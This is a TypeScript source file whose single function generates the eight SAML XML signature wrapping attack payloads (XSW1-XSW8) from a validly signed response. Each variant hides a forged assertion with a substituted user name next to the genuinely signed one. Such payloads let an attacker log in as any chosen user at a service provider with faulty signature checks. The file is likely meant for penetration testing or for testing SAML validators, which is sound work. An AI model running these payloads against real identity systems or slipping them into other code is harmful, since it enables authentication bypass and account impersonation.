/**
 * XML signature wrapping (Somorovsky et al., "On Breaking SAML", USENIX Security 2012), in the eight forms that SAML
 * Raider numbers: the signed element stays in the document, where the check of the signature finds it, and another
 * assertion stands where values are taken from.
 */
export function wrappingAttacks(signed: string, name: string): readonly (readonly [string, string])[] {
  const assertion = element(signed, "saml:Assertion");
  const signature = element(assertion, "(?:ds:)?Signature");
  const bare = assertion.replace(signature, "");
  const evil = renamed(bare.replace(/ ID="[^"]+"/, ' ID="_evil"'), name);
  const close = "</saml:Assertion>";
  const inside = (outer: string, inner: string) => outer.replace(close, `${inner}${close}`);
  const signatureWith = (inner: string) =>
    signature.replace(
      /<\/(ds:)?Signature>$/,
      (end) => `<ds:Object xmlns:ds="http://www.w3.org/2000/09/xmldsig#">${inner}</ds:Object>${end}`,
    );
  const response = (body: string) => signed.replace(assertion, body);
  const head = signed.slice(0, signed.indexOf(">") + 1);
  const evilHead = head.replace(/ ID="[^"]+"/, ' ID="_evilresponse"');
  const evilResponse = (more: string) => `${evilHead}${more}${signed.slice(head.length).replace(assertion, evil)}`;
  return [
    ["XSW1", evilResponse(signatureWith(signed))],
    ["XSW2", evilResponse(`${signature}${signed}`)],
    ["XSW3", response(`${evil}${assertion}`)],
    ["XSW4", response(inside(evil, assertion))],
    ["XSW5", response(`${inside(evil, signature)}${bare}`)],
    ["XSW6", response(inside(evil, signatureWith(bare)))],
    ["XSW7", response(`<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`)],
    ["XSW8", response(inside(renamed(bare, name), signatureWith(bare)))],
  ];
}

function element(xml: string, name: string): string {
  const found = new RegExp(`<${name}[\\s>][\\s\\S]*</${name}>`).exec(xml)?.[0];
  if (found === undefined) throw new Error(`there is no ${name}`);
  return found;
}

function renamed(assertion: string, name: string): string {
  return assertion.replace(/(<saml:NameID[^>]*>)[^<]*/, `$1${name}`);
}
